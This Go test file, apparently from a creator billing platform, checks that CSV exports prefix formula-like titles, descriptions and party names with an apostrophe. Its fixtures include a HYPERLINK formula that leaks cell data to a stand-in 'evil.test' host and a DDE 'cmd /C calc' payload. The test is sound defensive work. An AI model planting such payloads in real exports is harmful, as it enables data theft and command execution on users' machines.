package api_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"slices"
	"testing"
	"time"

	"github.com/fanseed/fanseed/billing"
	"github.com/fanseed/fanseed/catalog"
)

// Names a spreadsheet would run as formulas come out of every CSV export as text, with a
// leading apostrophe: show titles and entry descriptions in statements, episode titles and
// party names in the dashboard's tables.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	ctx := context.Background()
	owner := ts.newUser(t, "formula@example.com", catalog.RoleCreator)
	const showTitle = `=HYPERLINK("http://evil.test/?leak="&A1,"Click")`
	show, err := catalog.CreateShow(ctx, ts.db, owner.ID, catalog.ShowInput{Slug: "formula", Title: showTitle, Currency: "USD"})
	if err != nil {
		t.Fatal(err)
	}
	titles := []string{"+1", "-2", "@x", "\tTab", "\rCR", "Plain title"}
	for i, title := range titles {
		ep, _ := ts.publishedEpisode(t, show, fmt.Sprint("Episode ", i), fmt.Sprintf("e%d.mp3", i), []byte(fmt.Sprint("ID3\x03 audio ", i)))
		// Forms trim leading tabs and CRs; the database may still hold them (another client, old data).
		if _, err := ts.db.Exec(ctx, `UPDATE episodes SET title = $2 WHERE id = $1`, ep.ID, title); err != nil {
			t.Fatal(err)
		}
	}
	creator, err := billing.EnsureParty(ctx, ts.db, billing.PartyCreator, "@SUM(1+1)*cmd|' /C calc'!A0", "formula@example.com", &owner.ID)
	if err != nil {
		t.Fatal(err)
	}
	day := time.Now().UTC().Add(-time.Hour)
	plan, err := billing.CreatePlan(ctx, ts.db, show.ID, billing.SourceAll, billing.FeePolicyNet, day.AddDate(0, -1, 0),
		[]billing.PlanLine{{PartyID: creator.ID, BasisPoints: 10000}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	entry, err := billing.PostPayment(ctx, ts.db, billing.Payment{Gross: 1000, Fee: 59, Currency: "USD", OccurredAt: day,
		Source: billing.SourceDonations, IdempotencyKey: "payment:formula", Description: "Donation"}, plan)
	if err != nil {
		t.Fatal(err)
	}
	payable, err := billing.Account(ctx, ts.db, billing.PartyPayable, "USD", creator.ID)
	if err != nil {
		t.Fatal(err)
	}
	revenue, err := billing.Account(ctx, ts.db, billing.PlatformRevenue, "USD", 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := billing.Post(ctx, ts.db, billing.Entry{Kind: billing.EntryAdjustment, Description: "-1+2 correction", OccurredAt: day,
		Postings: []billing.Posting{
			{AccountID: payable, Amount: -250, Currency: "USD", Role: billing.RoleAdjustment},
			{AccountID: revenue, Amount: 250, Currency: "USD", Role: billing.RoleAdjustment}}}); err != nil {
		t.Fatal(err)
	}
	if _, err := ts.db.Exec(ctx, `INSERT INTO payouts (party_id, currency, period, amount, status, stripe_transfer_id, entry_id)
		VALUES ($1, 'USD', $2, 500, 'transferred', 'tr_formula', $3)`, creator.ID, day.Format("2006-01"), entry); err != nil {
		t.Fatal(err)
	}

	read := func(path string) [][]string {
		t.Helper()
		resp := ts.do(t, &owner, "GET", path, nil)
		if resp.StatusCode != 200 {
			t.Fatalf("GET %s: status %d", path, resp.StatusCode)
		}
		r := csv.NewReader(resp.Body)
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		return rows
	}
	column := func(rows [][]string, name string) []string {
		t.Helper()
		i := slices.Index(rows[0], name)
		if i < 0 {
			t.Fatalf("no column %q in %v", name, rows[0])
		}
		var out []string
		for _, r := range rows[1:] {
			out = append(out, r[i])
		}
		return out
	}
	from, to := day.AddDate(0, 0, -1).Format(time.DateOnly), day.AddDate(0, 0, 1).Format(time.DateOnly)

	statement := read(fmt.Sprintf("/statements/%d.csv?from=%s&to=%s", creator.ID, from, to))
	if shows := column(statement, "show"); !slices.Contains(shows, "'"+showTitle) || slices.Contains(shows, showTitle) {
		t.Errorf("statement.csv show column %q, want the title behind an apostrophe", shows)
	}
	if descs := column(statement, "description"); !slices.Contains(descs, "'-1+2 correction") {
		t.Errorf("statement.csv description column %q, want %q", descs, "'-1+2 correction")
	}
	if amounts := column(statement, "amount"); !slices.Contains(amounts, "9.41") {
		t.Errorf("statement.csv amounts %q: the amount credited (9.41) must stay a number", amounts)
	}

	dash := fmt.Sprintf("/shows/%d/dashboard/%%s.csv?from=%s&to=%s", show.ID, from, to)
	got := column(read(fmt.Sprintf(dash, "episodes")), "title")
	for _, title := range titles {
		want := "'" + title
		if title == "Plain title" {
			want = title
		}
		if !slices.Contains(got, want) {
			t.Errorf("episodes.csv titles %q, want %q among them", got, want)
		}
	}
	if parties := column(read(fmt.Sprintf(dash, "payouts")), "party"); len(parties) != 1 || parties[0] != "'"+creator.Name {
		t.Errorf("payouts.csv parties %q, want %q", parties, "'"+creator.Name)
	}
}
